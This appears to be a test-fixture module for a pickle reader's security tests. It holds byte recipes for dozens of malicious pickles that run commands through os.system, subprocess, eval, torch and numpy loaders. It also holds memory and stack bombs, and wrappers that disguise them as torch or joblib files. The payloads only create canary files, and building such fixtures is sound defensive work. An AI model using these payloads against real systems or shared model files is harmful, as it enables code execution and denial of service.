"""Malicious pickles for the tests of the reader: every way known to us to run code, and ways to eat memory or time.

A canary is a file that the payload would create. Payloads are plain pickle bytes; `CONTAINERS` dresses them as the
files that people exchange.
"""
# ruff: noqa: E501 (a table: one attack, one entry)

import io
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from typing import Any

STOP = b"."


def text(value: str) -> bytes:
    """A BINUNICODE opcode."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def name(module: str, attribute: str) -> bytes:
    """A STACK_GLOBAL for any two strings."""
    return text(module) + text(attribute) + b"\x93"


class Call:
    """Pickles as a call of `function(*args)`, and what may follow it in a __reduce__ tuple."""

    def __init__(self, function: Any, *args: Any, rest: tuple[Any, ...] = ()) -> None:
        self.parts = (function, args, *rest)

    def __reduce__(self) -> tuple[Any, ...]:
        return self.parts


def executing(canary: str) -> dict[str, bytes]:
    """Payloads that create `canary` when read with the standard library."""
    command = f"touch {canary}"
    code = f"open({canary!r}, 'w').close()"
    touch = text(command) + b"\x85R"  # TUPLE1 REDUCE
    touch_code = text(code) + b"\x85R"
    plain_line = command.encode()
    payloads = {
        "protocol-0-reduce": b"cos\nsystem\n(S'" + plain_line + b"'\ntR.",
        "protocol-1-reduce": b"cposix\nsystem\nq\x00(U" + bytes([len(command)]) + plain_line + b"tR.",
        "inst": b"(S'" + plain_line + b"'\nios\nsystem\n.",
        "obj": b"(cos\nsystem\n" + text(command) + b"o.",
        "newobj": b"\x80\x02" + name("os", "system") + text(command) + b"\x85\x81.",
        "newobj-ex": b"\x80\x04" + name("os", "system") + text(command) + b"\x85}\x92.",
        "newobj-subprocess": b"\x80\x02csubprocess\nPopen\n" + text(command) + b"\x85\x81.",
        "build-setstate": b"\x80\x02" + name("os", "system") + b"}" + text("__setstate__") + name("os", "system") + b"s"
        b"b" + text(command) + b"b.",
        "stack-global": b"\x80\x04" + name("os", "system") + touch + STOP,
        "stack-global-memo": b"\x80\x04" + text("os") + b"\x94" + text("system") + b"\x94" + b"h\x00h\x01\x93" + touch + STOP,
        "dotted-name": b"\x80\x04" + name("os", "path.os.system") + touch + STOP,
        "dotted-through-torch": b"\x80\x04" + name("torch._utils", "warnings.sys.modules") + STOP,
        "dup-twice": b"\x80\x04" + name("os", "system") + b"2" + touch + b"0" + touch + STOP,
        "executed-then-popped": b"\x80\x04" + name("os", "system") + touch + b"0N.",
        "executed-without-stop": b"\x80\x04" + name("os", "system") + touch,
        "executed-then-garbage": b"\x80\x04" + name("os", "system") + touch + b"\xff\xff\xff",
        "eval": b"\x80\x04" + name("builtins", "eval") + touch_code + STOP,
        "exec": b"\x80\x04" + name("builtins", "exec") + touch_code + STOP,
        "python-2-eval": b"c__builtin__\neval\n" + touch_code + STOP,
        "import": b"\x80\x04" + name("builtins", "__import__") + text("antigravity") + b"\x85R.",
        "compile-exec": b"\x80\x04" + name("builtins", "exec") + name("builtins", "compile") + text(code) + text("x")
        + text("exec") + b"\x87R\x85R.",
        "getattr-chain": b"\x80\x04" + name("builtins", "getattr") + name("builtins", "__import__") + text("os") + b"\x85R"
        + text("system") + b"\x86R" + touch + STOP,
        "map-system": b"\x80\x04" + name("builtins", "list") + name("builtins", "map") + name("os", "system") + b"](" +
        text(command) + b"e\x86R\x85R.",
        "apply": b"\x80\x02" + name("functools", "partial") + name("os", "system") + text(command) + b"\x86R)R.",
        "reduce-tool": b"\x80\x02" + name("functools", "reduce") + name("os", "system") + b"](" + text(command) + b"K\x00e\x86R.",
        "attrgetter": b"\x80\x04" + name("operator", "attrgetter") + text("system") + b"\x85R" + name("builtins", "__import__")
        + text("os") + b"\x85R\x85R" + touch + STOP,
        "methodcaller": b"\x80\x04" + name("operator", "methodcaller") + text("system") + text(command) + b"\x86R"
        + name("builtins", "__import__") + text("os") + b"\x85R\x85R.",
        "runpy": b"\x80\x04" + name("runpy", "_run_code") + name("builtins", "compile") + text(code) + text("x") + text("exec")
        + b"\x87R}\x86R.",
        "timeit": b"\x80\x04" + name("timeit", "timeit") + touch_code + STOP,
        "pdb": b"\x80\x04" + name("pdb", "run") + touch_code + STOP,
        "cprofile": b"\x80\x04" + name("cProfile", "run") + touch_code + STOP,
        "code-interpreter": b"\x80\x04" + name("code", "InteractiveInterpreter.runcode") + touch_code + STOP,
        "pydoc-pipe": b"\x80\x04" + name("pydoc", "pipepager") + text("x") + text(command) + b"\x86R.",
        "idlelib": b"\x80\x04" + name("idlelib.run", "Executive.runcode") + touch_code + STOP,
        "logging-config": b"\x80\x04" + name("logging.config", "_resolve") + text("os.system") + b"\x85R" + touch + STOP,
        "pip": b"\x80\x04" + name("pip", "main") + b"](" + text("install") + text("/nowhere") + b"e\x85R.",
        "ctypes": b"\x80\x04" + name("ctypes", "CDLL") + text("libc.so.6") + b"\x85R.",
        "open-write": b"\x80\x04" + name("builtins", "open") + text(canary) + text("w") + b"\x86R.",
        "io-open": b"\x80\x04" + name("_io", "FileIO") + text(canary) + text("w") + b"\x86R.",
        "pathlib-write": b"\x80\x04" + name("pathlib", "Path.write_text") + name("pathlib", "Path") + text(canary) + b"\x85R"
        + text("x") + b"\x86R.",
        "shutil": b"\x80\x04" + name("shutil", "copyfile") + text("/etc/hostname") + text(canary) + b"\x86R.",
        "numpy-save": b"\x80\x04" + name("numpy", "savetxt") + text(canary) + b"](K\x01e\x86R.",
        "numpy-load": b"\x80\x04" + name("numpy", "load") + text(canary) + b"\x85R.",
        "numpy-runstring": b"\x80\x04" + name("numpy.testing._private.utils", "runstring") + text(code) + b"}\x86R.",
        "torch-load": b"\x80\x04" + name("torch", "load") + text(canary) + b"\x85R.",
        "torch-hub": b"\x80\x04" + name("torch.hub", "load") + text("x/y") + text("z") + b"\x86R.",
        "torch-save": b"\x80\x04" + name("torch", "save") + b"N" + text(canary) + b"\x86R.",
        "torch-inductor": b"\x80\x04" + name("torch._inductor.codecache", "compile_file") + touch_code + STOP,
        "joblib-load": b"\x80\x04" + name("joblib", "load") + text(canary) + b"\x85R.",
        "extension-1": b"\x80\x02\x82\x01.",
        "extension-2": b"\x80\x02\x83\x01\x00.",
        "extension-4": b"\x80\x02\x84\x01\x00\x00\x00.",
        "copyreg-extension": b"\x80\x04" + name("copyreg", "add_extension") + text("os") + text("system") + b"K\x01\x87R\x82\x01"
        + touch + STOP,
        "copyreg-reconstructor": b"ccopy_reg\n_reconstructor\n" + name("os", "system") + name("builtins", "str") +
        text(command) + b"\x87R.",
        "persistent-text": b"P" + plain_line + b"\n.",
        "persistent-binary": b"\x80\x02" + text(command) + b"Q.",
        "persistent-tuple": b"\x80\x02(" + text("module") + name("os", "system") + text("os") + text(code) + b"tQ" + touch + STOP,
        "in-dict-subclass": b"\x80\x02" + name("collections", "OrderedDict") + b")R" + text("a") + name("os", "system") + touch
        + b"s.",
        "dict-subclass-build": b"\x80\x02" + name("collections", "OrderedDict") + b")R}" + text("__class__") +
        name("os", "system") + touch + b"sb.",
        "defaultdict-factory": b"\x80\x02" + name("collections", "defaultdict") + name("os", "system") + b"\x85R" + text("a") + b"Ns.",
        "in-rebuild-parameter": b"\x80\x02" + name("torch._utils", "_rebuild_parameter") + name("os", "system") + touch +
        b"\x88N\x87R.",
        "in-rebuild-from-type": b"\x80\x02" + name("torch._tensor", "_rebuild_from_type_v2") + b"(" + name("os", "system") +
        name("os", "system") + text(command) + b"\x85}tR.",
        "as-storage-class": b"\x80\x02(" + text("storage") + name("os", "system") + text("0") + text("cpu") + b"K\x01tQ.",
        "in-numpy-scalar": b"\x80\x02" + name("numpy.core.multiarray", "scalar") + name("os", "system") + touch + b"C\x00\x86R.",
        "in-numpy-dtype": b"\x80\x02" + name("numpy", "dtype") + name("os", "system") + touch + b"\x89\x88\x87R.",
        "in-object-array": pickle.dumps({"x": Call(__import__("os").system, command)}),
        "as-set-item": b"\x80\x04\x8f(" + name("os", "system") + touch + b"\x90.",
        "as-key": b"\x80\x04}(" + name("os", "system") + touch + b"Nu.",
        "nt-system": b"cnt\nsystem\n(S'" + plain_line + b"'\ntR.",
        "subprocess-run": b"\x80\x04" + name("subprocess", "run") + b"](" + text("touch") + text(canary) + b"e\x85R.",
        "subprocess-getoutput": b"\x80\x04" + name("subprocess", "getoutput") + touch + STOP,
        "spawnvp": b"\x80\x04" + name("os", "spawnvp") + b"K\x00" + text("touch") + b"](" + text("touch") + text(canary)
        + b"e\x87R.",
        "spawn-passfds": b"\x80\x04" + name("multiprocessing.util", "spawnv_passfds") + text("/bin/touch") + b"](" +
        text("touch") + text(canary) + b"e)\x87R.",
        "pty-spawn": b"\x80\x04" + name("pty", "spawn") + b"](" + text("touch") + text(canary) + b"e\x85R.",
        "import-module": b"\x80\x04" + name("importlib", "import_module") + text("antigravity") + b"\x85R.",
        "resolve-name": b"\x80\x04" + name("pkgutil", "resolve_name") + text("os:system") + b"\x85R" + touch + STOP,
        "marshal-function": b"\x80\x04" + name("types", "FunctionType") + name("marshal", "loads") + b"C\x04evil\x85R}"
        b"\x86R)R.",
        "setattr-builtins": b"\x80\x04" + name("builtins", "setattr") + name("sys", "modules") + text("os") + b"N\x87R.",
        "nested-pickle-loads": b"\x80\x04" + name("_pickle", "loads") + b"C\x2ecos\nsystem\n(S'touch nested-canary-file'\ntR.xx"
        b"\x85R.",
        "nested-dill": b"\x80\x04" + name("dill", "loads") + text("x") + b"\x85R.",
        "cloudpickle-function": b"\x80\x04" + name("cloudpickle.cloudpickle", "_make_function") + text(code) + b"\x85R.",
        "socket-connect": b"\x80\x04" + name("socket", "create_connection") + text("127.0.0.1") + b"K\x09\x86\x85R.",
        "urlopen": b"\x80\x04" + name("urllib.request", "urlopen") + text("http://127.0.0.1:9/") + b"\x85R.",
        "urlretrieve": b"\x80\x04" + name("urllib.request", "urlretrieve") + text("file:///etc/hostname") + text(canary)
        + b"\x86R.",
        "webbrowser": b"\x80\x04" + name("webbrowser", "open") + text("file:///etc/hostname") + b"\x85R.",
        "torch-jit": b"\x80\x04" + name("torch.jit", "load") + text(canary) + b"\x85R.",
        "torch-cpp-extension": b"\x80\x04" + name("torch.utils.cpp_extension", "load_inline") + text("x") + text("int x;")
        + b"\x86R.",
        "torch-rpc": b"\x80\x04" + name("torch.distributed.rpc.internal", "_run_function") + name("os", "system") + touch
        + b"\x85R.",
        "torch-library-load": b"\x80\x04" + name("torch._ops", "_OpNamespace.load_library") + text(canary) + b"\x85R.",
        "torch-fx": b"\x80\x04" + name("torch.fx.graph_module", "reduce_graph_module") + b"}" + text("_code") + text(code)
        + b"s" + text("") + b"\x86R.",
        "numpy-exec-command": b"\x80\x04" + name("numpy.distutils.exec_command", "exec_command") + touch + STOP,
        "numpy-memmap": b"\x80\x04" + name("numpy", "memmap") + text(canary) + name("numpy", "uint8") + text("w+") + b"\x87R.",
        "joblib-object-array": b"\x80\x04" + name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}(" + text("dtype")
        + name("numpy", "dtype") + text("O") + b"\x89\x88\x87R" + text("shape") + b"K\x01\x85" + text("order") + text("C")
        + text("allow_mmap") + b"\x89ub" + b"\x80\x04" + name("os", "system") + touch + STOP,
        "joblib-memory": b"\x80\x04" + name("joblib.memory", "MemorizedFunc") + name("os", "system") + text(canary) + b"\x86R.",
        "build-dict": b"\x80\x02" + name("argparse", "Namespace") + b")\x81}" + text("__dict__") + name("os", "system") + touch
        + b"sb.",
        "build-class": b"\x80\x02" + name("argparse", "Namespace") + b")\x81}" + text("__class__") + name("subprocess", "Popen")
        + b"sb.",
        "build-slots": b"\x80\x02" + name("argparse", "Namespace") + b")\x81N}" + text("__init__") + name("os", "system") + touch
        + b"s\x86b.",
        "reduce-ex-object": b"\x80\x02" + name("copyreg", "__newobj_ex__") + name("os", "system") + text(command) + b"\x85}\x87R.",
        "inst-subprocess": b"((S'touch'\nS'" + canary.encode() + b"'\nlisubprocess\nPopen\n.",
        "obj-eval": b"(c__builtin__\neval\n" + text(code) + b"o.",
        "append-evil": b"\x80\x04](" + name("os", "system") + touch + name("builtins", "exec") + touch_code + b"e.",
        "shelve": b"\x80\x04" + name("shelve", "open") + text(canary) + b"\x85R.",
        "sqlite": b"\x80\x04" + name("sqlite3", "connect") + text(canary) + b"\x85R.",
        "zipimport": b"\x80\x04" + name("zipimport", "zipimporter") + text(canary) + b"\x85R.",
        "yaml-unsafe": b"\x80\x04" + name("yaml", "unsafe_load") + text("!!python/object/apply:os.system [x]") + b"\x85R.",
        "unicode-name": b"\x80\x04" + name("os\u2024", "system") + touch + STOP,
        "space-in-module": b"c torch._utils _rebuild_tensor_v2\nsystem\n" + touch + STOP,
    }  # fmt: skip
    payloads["load-from-bytes"] = (
        b"\x80\x02" + name("torch.storage", "_load_from_bytes") + b"B" + struct.pack("<I", len(payloads["stack-global"]))
        + payloads["stack-global"] + b"\x85R."
    )  # fmt: skip
    return payloads


@cache
def bombs() -> dict[str, bytes]:
    """Small files that ask for much memory, time or stack."""
    shared_tuple = b"\x80\x04)\x94" + b"h\x00\x86\x94" * 0  # the empty tuple as memo 0
    doubled = b"".join(b"h" + bytes([i]) + b"h" + bytes([i]) + b"\x86\x94" for i in range(100))
    numpy_array = b"\x80\x02" + name("numpy.core.multiarray", "_reconstruct") + name("numpy", "ndarray") + b"K\x00\x85"
    numpy_array += b"C\x01b\x87R"
    float_type = (
        name("numpy", "dtype")
        + text("f8")
        + b"\x89\x88\x87R(K\x03"
        + text("<")
        + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xff"
    )
    float_type += b"K\x00tb"  # fmt: skip
    huge = b"\x8a\x07\x00\x00\x00\x00\x00\x00\x01"  # LONG1: 2**48
    wrapper = name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}("
    long_text = "x" * 4_000_000
    return {
        "long4-count": b"\x80\x02\x8b\xff\xff\xff\x7f.",
        "long4-negative": b"\x80\x02\x8b\xff\xff\xff\xff.",
        "binbytes8-count": b"\x80\x04\x8e\xff\xff\xff\xff\xff\xff\xff\x7f.",
        "binunicode8-count": b"\x80\x04\x8d\xff\xff\xff\xff\xff\xff\xff\x7f.",
        "bytearray8-count": b"\x80\x05\x96\x00\x00\x00\x00\x00\x00\x00\x40.",
        "frame-count": b"\x80\x04\x95\xff\xff\xff\xff\xff\xff\xff\x7fN.",
        "memo-index": b"\x80\x02Nr\xff\xff\xff\xff.",
        "decimal-digits": b"L" + b"9" * 1_000_000 + b"L\n.",
        "deep-lists": b"\x80\x02" + b"]" * 30_000 + b"a" * 29_999 + b".",
        "deep-tuples": b"\x80\x02N" + b"\x85" * 30_000 + b".",
        "deep-dicts": b"\x80\x02" + b"}K\x01" * 30_000 + b"N" + b"s" * 30_000 + b".",
        "deep-stubs": b"\x80\x02" + b"cos\nsystem\n" * 30_000 + b")R" + b"\x85R" * 29_999 + b".",
        "deep-marks": b"(" * 100_000,
        "list-in-itself": b"\x80\x04]\x94h\x00a.",
        "dict-in-itself": b"\x80\x04}\x94K\x01h\x00s.",
        "doubled-tuples": shared_tuple + doubled + b".",
        "doubled-tuple-as-key": b"\x80\x04}" + shared_tuple[2:] + doubled + b"Ns.",
        "doubled-tuple-in-set": b"\x80\x04\x8f(" + shared_tuple[2:] + doubled + b"\x90.",
        "colliding-integers": b"\x80\x02}(" + b"".join(long(i * (2**61 - 1)) + b"N" for i in range(1, 10_000)) + b"u.",
        "encode-again-and-again": b"\x80\x02" + text(long_text) + b"q\x00](" + (
            name("_codecs", "encode") + b"h\x00" + text("latin1") + b"\x86R") * 2000 + b"e.",
        "set-again-and-again": b"\x80\x02](" + b"".join(b"M" + struct.pack("<H", i) for i in range(60_000)) + b"eq\x00]("
        + (name("builtins", "set") + b"h\x00\x85R") * 5000 + b"e.",
        "array-beyond-its-bytes": numpy_array + b"(K\x01" + huge + b"\x85" + float_type + b"\x89C\x08abcdefghtb.",
        "array-of-negative-size": numpy_array + b"(K\x01J\xff\xff\xff\xff\x85" + float_type + b"\x89C\x08abcdefghtb.",
        "joblib-array-size": b"\x80\x02" + wrapper + text("dtype") + float_type + text("shape") + huge + b"\x85" + text("order")
        + text("C") + b"ub.",
        "joblib-array-without-state": b"\x80\x02" + name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81.",
        "string-dtype-width": numpy_array + b"(K\x01K\x01\x85" + name("numpy", "dtype") + text("S999999999") + b"\x89\x88\x87R(K\x03"
        + text("|") + b"NNNK\x01K\x01K\x00tb\x89C\x00tb.",
        "bytes-dtype-of-no-width": numpy_array + b"(K\x01" + huge + b"\x85" + name("numpy", "dtype") + text("S0")
        + b"\x89\x88\x87R(K\x03" + text("|") + b"NNNK\x00K\x01K\x00tb\x89C\x00tb.",
        "zlib-of-zeros": zlib.compress(b"\x80\x04\x8e" + struct.pack("<Q", 1 << 27) + bytes(1 << 27) + b".", 1),
    }  # fmt: skip


def long(value: int) -> bytes:
    raw = value.to_bytes(12, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw


def torch_zip(
    payload: bytes, records: dict[str, bytes] | None = None, *, compression: int = zipfile.ZIP_STORED
) -> bytes:
    """A torch file around a pickle; `records` replaces the usual storage 0."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        archive.writestr("archive/data.pkl", payload)
        archive.writestr("archive/byteorder", b"little")
        for key, value in (records if records is not None else {"archive/data/0": bytes(64)}).items():
            archive.writestr(key, value)
    return buffer.getvalue()


def torch_stream(payload: bytes) -> bytes:
    """A torch file of before 1.6 around a pickle."""
    head = [0x1950A86A20F9469CFC6C, 1001, {"little_endian": True, "protocol_version": 1001, "type_sizes": {}}]
    return b"".join(pickle.dumps(part, 2) for part in head) + payload + pickle.dumps([], 2)


CONTAINERS: dict[str, Callable[[bytes], bytes]] = {
    "plain": lambda payload: payload,
    "torch-zip": torch_zip,
    "torch-stream": torch_stream,
    "torch-stream-head": lambda payload: payload + torch_stream(payload),
    "joblib-zlib": zlib.compress,
}
